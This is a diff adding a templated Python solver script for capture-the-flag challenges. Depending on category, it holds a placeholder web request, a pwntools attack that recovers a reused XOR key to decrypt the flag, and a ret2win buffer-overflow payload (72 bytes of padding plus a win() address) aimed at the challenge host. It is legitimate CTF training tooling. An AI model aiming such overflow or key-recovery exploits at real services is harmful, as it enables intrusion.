@@ -0,0 +1,40 @@
+#!/usr/bin/env python3
+# gzcli runs this solver with TARGET_HOST and TARGET_PORT of the deployed
+# challenge, TARGET_PORT is 0 when the challenge has no container, and
+# expects the flag in its output
+import os
+
+HOST = os.environ.get("TARGET_HOST") or "localhost"
+PORT = int(os.environ.get("TARGET_PORT") or 0) or {{.Port}}
+{{- if eq .Category "Web"}}
+
+import requests
+
+# TODO: exploit the application until it returns the flag
+print(requests.get(f"http://{HOST}:{PORT}/", timeout=10).text)
+{{- else if eq .Category "Crypto"}}
+
+from pwn import remote
+
+io = remote(HOST, PORT)
+io.recvuntil(b"Encrypted flag: ")
+encrypted = bytes.fromhex(io.recvline().strip().decode())
+
+# The key is reused, so encrypting zeros gives it back
+io.sendlineafter(b"(hex): ", (b"\x00" * len(encrypted)).hex().encode())
+io.recvuntil(b"Ciphertext: ")
+key = bytes.fromhex(io.recvline().strip().decode())
+io.close()
+
+print(bytes(a ^ b for a, b in zip(encrypted, key)).decode())
+{{- else}}
+
+from pwn import p64, remote
+
+# TODO: set the address of win() in the built chall, e.g. nm chall | grep win
+WIN = 0x401196
+
+io = remote(HOST, PORT)
+io.sendafter(b"name? ", b"A" * 72 + p64(WIN))
+print(io.recvall(timeout=5).decode(errors="replace"))
+{{- end}}